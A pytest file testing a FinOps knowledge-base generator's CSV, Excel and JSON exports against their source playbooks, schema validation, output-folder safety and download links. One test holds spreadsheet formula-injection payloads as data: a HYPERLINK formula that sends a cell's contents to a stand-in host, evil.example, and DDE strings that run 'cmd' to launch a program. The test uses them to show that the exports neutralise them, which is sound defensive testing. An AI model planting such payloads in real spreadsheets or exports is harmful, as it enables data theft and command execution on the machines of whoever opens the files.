"""`finops-kb export` and the site's downloads: the CSV files, the Excel workbook and the JSON
model read back and compared with the playbooks they come from; the JSON validated against its
published schema; formula injection neutralised; bad output folders refused."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import zipfile
from pathlib import Path
from typing import Any

import jsonschema
import openpyxl
import pytest
import yaml
from kb import copy_base

from generator.cli import main
from generator.core import graph
from generator.core.check import check
from generator.core.config import load_config
from generator.plugin.html_links import broken_links
from generator.render import downloads
from generator.render.context import render_context

FILES = ["raci.csv", "maturity.csv", "kpis.csv", "finops-kb.xlsx", "model.json"]


def _export(root: Path, *args: str) -> int:
    return main(["-f", str(root / "site_config.yml"), "export", *args])


def _yaml(path: Path) -> Any:
    text = path.read_text("utf-8")
    if text.startswith("---"):  # a Markdown file: its front matter
        text = text.split("---", 2)[1]
    return yaml.safe_load(text)


def _csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))


@pytest.fixture
def exported(base_repo: Path) -> Path:
    assert _export(base_repo) == 0
    return base_repo / "exports"


def test_raci_csv_has_one_row_per_activity_and_a_column_per_role(exported: Path) -> None:
    root = exported.parent
    roles = _yaml(root / "playbooks/organization.yml")["roles"]
    activities = _yaml(root / "playbooks/raci.yml")["activities"]
    rows = _csv(exported / "raci.csv")
    assert rows[0] == ["Activity id", "Activity", "Capability id", "Capability"] + [
        r["title"] for r in roles
    ]
    assert len(rows) == 1 + len(activities)
    for act, row in zip(activities, rows[1:], strict=True):
        capability = _yaml(root / f"content/capabilities/{act['capability']}.md")["title"]
        letters = [act["assignments"].get(r["id"], "") for r in roles]
        assert row == [act["id"], act["title"], act["capability"], capability, *letters]


def test_csv_files_are_excel_friendly(exported: Path) -> None:
    """UTF-8 with a byte order mark (Excel reads UTF-8 without one as the local code page) and
    RFC 4180 line ends."""
    for name in ("raci.csv", "maturity.csv", "kpis.csv"):
        data = (exported / name).read_bytes()
        assert data.startswith(b"\xef\xbb\xbf"), name
        assert data.count(b"\r\n") == data.count(b"\n") > 1, name


def test_maturity_and_kpi_csv_match_the_overlays(exported: Path) -> None:
    root = exported.parent
    overlay = _yaml(root / "playbooks/capabilities/alpha.md")
    mat = overlay["maturity"]
    maturity = {row[0]: row for row in _csv(exported / "maturity.csv")[1:]}
    assert maturity == {
        "alpha": [
            "alpha",
            "Alpha",
            "Understand",
            "FinOps Lead",
            mat["current"].capitalize(),
            mat["target"].capitalize(),
            mat["assessed"].isoformat(),
        ],
        "beta": ["beta", "Beta", "Understand", "", "", "", ""],  # no overlay: not assessed
    }
    kpis = _csv(exported / "kpis.csv")
    assert kpis[0] == [
        "Capability id",
        "Capability",
        "KPI",
        "How it is measured",
        "Target",
        "Current",
        "Owner",
    ]
    assert kpis[1:] == [
        [
            "alpha",
            "Alpha",
            k["name"],
            k.get("formula", ""),
            k["target"],
            k["current"],
            "FinOps Lead",
        ]
        for k in overlay["kpis"]
    ]


def test_workbook_has_the_same_tables_with_frozen_headers_and_filters(exported: Path) -> None:
    wb = openpyxl.load_workbook(exported / "finops-kb.xlsx")
    assert wb.sheetnames == ["RACI", "Maturity", "KPIs"]
    for ws, name in zip(wb.worksheets, ("raci.csv", "maturity.csv", "kpis.csv"), strict=True):
        rows = [["" if v is None else v for v in row] for row in ws.iter_rows(values_only=True)]
        expected: list[list[Any]] = _csv(exported / name)
        if ws.title == "Maturity":  # a real date in the workbook, ISO text in the CSV
            rows = [
                [v.date().isoformat() if isinstance(v, dt.datetime) else v for v in r] for r in rows
            ]
        assert rows == expected, ws.title
        assert ws.auto_filter.ref == ws.dimensions
        assert all(cell.font.b for cell in ws[1])
        assert all(ws.column_dimensions[c].width >= 8 for c in "ABCD")
    raci, maturity, kpis = wb.worksheets
    assert (raci.freeze_panes, maturity.freeze_panes, kpis.freeze_panes) == ("C2", "C2", "D2")
    assert [c.value for c in raci[1]][4:] == ["FinOps Lead", "Platform Engineer"]
    coloured = {
        (str(cf.sqref), rule.formula[0]) for cf in raci.conditional_formatting for rule in cf.rules
    }
    assert coloured == {("E2:F2", f'"{letter}"') for letter in "RACI"}
    assert isinstance(maturity["G2"].value, dt.datetime)
    assert wb.properties.creator == "finops-kb"


def test_workbook_is_the_same_bytes_for_the_same_model(base_repo: Path, exported: Path) -> None:
    first = (exported / "finops-kb.xlsx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert "1980-01-01T00:00:00Z" in core and str(dt.date.today().year) not in core
    assert _export(base_repo, "--format", "xlsx") == 0
    assert (exported / "finops-kb.xlsx").read_bytes() == first


def test_json_validates_against_its_schema_and_says_what_the_playbooks_say(exported: Path) -> None:
    root = exported.parent
    doc = json.loads((exported / "model.json").read_text("utf-8"))
    schema = json.loads((exported / doc["$schema"]).read_text("utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(doc)
    org = _yaml(root / "playbooks/organization.yml")
    assert doc["organization"] == {"name": org["name"], "repository_url": org["repository_url"]}
    assert doc["roles"] == org["roles"]
    assert [c["id"] for c in doc["capabilities"]] == ["alpha", "beta"]
    alpha = doc["capabilities"][0]
    front = _yaml(root / "content/capabilities/alpha.md")
    for key in ("title", "summary", "domain", "phases", "personas", "related", "aliases"):
        assert alpha[key] == front[key], key
    assert alpha["referenced_by"] == ["beta"]
    overlay = _yaml(root / "playbooks/capabilities/alpha.md")
    assert alpha["overlay"]["owner"] == overlay["owner"]
    assert alpha["overlay"]["maturity"] == {
        k: str(v) if isinstance(v, dt.date) else v for k, v in overlay["maturity"].items()
    }
    assert alpha["overlay"]["kpis"] == overlay["kpis"]
    raci = _yaml(root / "playbooks/raci.yml")["activities"]
    assert alpha["raci"] == [{k: a[k] for k in ("id", "title", "assignments")} for a in raci]
    assert "overlay" not in doc["capabilities"][1]


def test_a_wrong_json_export_fails_its_schema(exported: Path) -> None:
    doc = json.loads((exported / "model.json").read_text("utf-8"))
    schema = json.loads((exported / "model.schema.json").read_text("utf-8"))
    doc["capabilities"][0]["overlay"]["maturity"]["current"] = "sprint"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft202012Validator(schema).validate(doc)


INJECTED = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "formula": "+cmd|' /C calc'!A0",
    "target": "-5",  # a plain number is not a formula: it stays as it is
    "current": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_formula_injection_is_neutralised(base_repo: Path) -> None:
    overlay = base_repo / "playbooks/capabilities/alpha.md"
    kpi = "\n".join(f"    {k}: {json.dumps(v)}" for k, v in INJECTED.items())
    text = overlay.read_text("utf-8").replace("kpis:\n", "kpis:\n  -" + kpi[3:] + "\n", 1)
    overlay.write_text(text, "utf-8")
    raci = base_repo / "playbooks/raci.yml"
    raci.write_text(raci.read_text("utf-8").replace("Collect cost data", "-2+3+cmd"), "utf-8")
    org = base_repo / "playbooks/organization.yml"
    org.write_text(org.read_text("utf-8").replace("title: FinOps Lead", "title: '=Lead'"), "utf-8")
    assert _export(base_repo) == 0
    out = base_repo / "exports"
    assert _csv(out / "raci.csv")[0][4] == "'=Lead"
    header = openpyxl.load_workbook(out / "finops-kb.xlsx")["RACI"]["E1"]
    assert (header.value, header.data_type) == ("=Lead", "s")
    row = _csv(out / "kpis.csv")[1]
    assert row[2:6] == ["'" + INJECTED["name"], "'" + INJECTED["formula"], "-5"] + [
        "'" + INJECTED["current"]
    ]
    assert _csv(out / "raci.csv")[1][1] == "'-2+3+cmd"
    ws = openpyxl.load_workbook(out / "finops-kb.xlsx")["KPIs"]
    cells = list(ws.iter_rows(min_row=2, max_row=2))[0][2:6]
    assert [c.value for c in cells] == [
        INJECTED[k] for k in ("name", "formula", "target", "current")
    ]
    assert {c.data_type for c in cells} == {"s"}  # text, never a formula
    doc = json.loads((out / "model.json").read_text("utf-8"))
    assert doc["capabilities"][0]["overlay"]["kpis"][0] == INJECTED


def test_control_characters_do_not_break_the_workbook(base_repo: Path) -> None:
    """A sheet's XML has no place for them (openpyxl raises): the workbook drops them, the CSV
    and JSON keep the text as written."""
    overlay = base_repo / "playbooks/capabilities/alpha.md"
    text = overlay.read_text("utf-8").replace("name: Coverage", 'name: "Cover\\x07age"')
    overlay.write_text(text, "utf-8")
    assert _export(base_repo) == 0
    out = base_repo / "exports"
    assert openpyxl.load_workbook(out / "finops-kb.xlsx")["KPIs"]["C2"].value == "Coverage"
    assert _csv(out / "kpis.csv")[1][2] == "Cover\x07age"


@pytest.mark.parametrize("out", ["site_config.yml", ".", "content", "playbooks/capabilities"])
def test_a_bad_out_folder_is_refused_in_one_line(
    base_repo: Path, out: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(base_repo)
    before = sorted(p.relative_to(base_repo) for p in base_repo.rglob("*"))
    assert _export(base_repo, "--out", out) == 2
    err = capsys.readouterr().err
    assert err.startswith("finops-kb: error: `export --out") and err.count("\n") == 1, err
    assert sorted(p.relative_to(base_repo) for p in base_repo.rglob("*")) == before


def test_a_folder_of_someone_elses_is_not_written_to(
    base_repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mine = base_repo / "reports"
    mine.mkdir()
    (mine / "raci.csv").write_text("mine", "utf-8")
    assert _export(base_repo, "--out", str(mine)) == 2
    assert "no .finops-kb-output file" in capsys.readouterr().err
    assert (mine / "raci.csv").read_text("utf-8") == "mine"


def test_formats_and_the_output_folder(base_repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = base_repo / "out" / "csv-only"
    assert _export(base_repo, "--out", str(out), "--format", "csv") == 0
    assert sorted(p.name for p in out.iterdir()) == [
        ".finops-kb-output",
        "kpis.csv",
        "maturity.csv",
        "raci.csv",
    ]
    assert "wrote raci.csv, maturity.csv, kpis.csv to" in capsys.readouterr().out
    assert _export(base_repo, "--format", "csv,pdf") == 2
    assert "unknown format pdf" in capsys.readouterr().err
    assert not (base_repo / "exports").exists()


def test_nothing_is_exported_from_a_repository_with_errors(
    base_repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    raci = base_repo / "playbooks/raci.yml"
    raci.write_text(raci.read_text("utf-8").replace("engineer: R", "enginer: R"), "utf-8")
    assert _export(base_repo) == 1
    err = capsys.readouterr().err
    assert "raci.yml" in err and "fix them before exporting" in err
    assert not (base_repo / "exports").exists()


@pytest.mark.parametrize(
    ("directory_urls", "raci", "home"),
    [
        (False, "../exports/raci.csv", "exports/model.json"),
        (True, "../../exports/raci.csv", "exports/model.json"),
    ],
)
def test_download_links_follow_the_url_style(
    base_repo: Path, directory_urls: bool, raci: str, home: str
) -> None:
    config = load_config(base_repo / "site_config.yml")
    g = graph.build(check(config).repo, config.content_dir, config.playbooks_dir)
    ctx = render_context(g, directory_urls)
    assert f'href="{raci}"' in downloads.raci(ctx)
    assert f'href="{home}"' in downloads.home(ctx)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_base(tmp_path_factory.mktemp("exports") / "kb")
    assert main(["-f", str(root / "site_config.yml"), "build", "--no-packs"]) == 0
    assert _export(root) == 0
    return root


def test_the_site_publishes_the_exports_with_links_that_work(built: Path) -> None:
    site = built / "site"
    for name in [*FILES, "model.schema.json"]:
        assert (site / "exports" / name).read_bytes() == (built / "exports" / name).read_bytes()
    expected = {
        "organization/raci.html": ["../exports/raci.csv", "../exports/finops-kb.xlsx"],
        "organization/maturity.html": [
            "../exports/maturity.csv",
            "../exports/kpis.csv",
            "../exports/finops-kb.xlsx",
        ],
        "index.html": ["exports/model.json", "exports/model.schema.json", "exports/finops-kb.xlsx"],
    }
    for page, hrefs in expected.items():
        html = (site / page).read_text("utf-8")
        for href in hrefs:
            assert f'href="{href}"' in html, (page, href)
    assert broken_links(site) == []


def test_the_link_check_sees_a_missing_export(built: Path, tmp_path: Path) -> None:
    """The build writes the exports before its link check: without them the links would be
    reported as broken, as this copy of the site shows."""
    site = shutil.copytree(built / "site", tmp_path / "site")
    (site / "exports" / "raci.csv").unlink()
    assert broken_links(site) == [("organization/raci.html", "../exports/raci.csv", "link")]


def test_json_carries_units_assessments_and_kpi_series(base_repo: Path) -> None:
    """The units' changes, every assessment and KPI series, valid against the schema."""
    import jsonschema
    import yaml
    from kb import apply_case

    from generator.cli import main

    case = Path(__file__).parent / "cases" / "rules" / "unit-layers-pass.yml"
    apply_case(base_repo, yaml.safe_load(case.read_text("utf-8")))
    out = base_repo / "out"
    assert (
        main(
            [
                "-f",
                str(base_repo / "site_config.yml"),
                "export",
                "--out",
                str(out),
                "--format",
                "json",
            ]
        )
        == 0
    )
    model = json.loads((out / "model.json").read_text("utf-8"))
    schema = json.loads((out / "model.schema.json").read_text("utf-8"))
    jsonschema.validate(model, schema)
    freight = model["unit_playbooks"]["freight"]
    assert [(r["id"], r["added"], r["from"]) for r in freight["raci"]] == [
        ("collect-data", False, "playbooks/units/freight/raci.yml"),
        ("review-freight-spend", True, "playbooks/units/freight/raci.yml"),
    ]
    assert freight["maturity"]["alpha"]["current"] == "walk"
    assert model["unit_playbooks"]["emea"]["removed"] == ["review-freight-spend"]
    assert [a["date"] for a in model["assessments"]] == ["2026-03-31", "2026-06-30"]
    [series] = model["kpi_series"]
    assert series["values"] == [
        {"date": "2026-01-31", "value": 70},
        {"date": "2026-04-30", "value": 78},
    ]
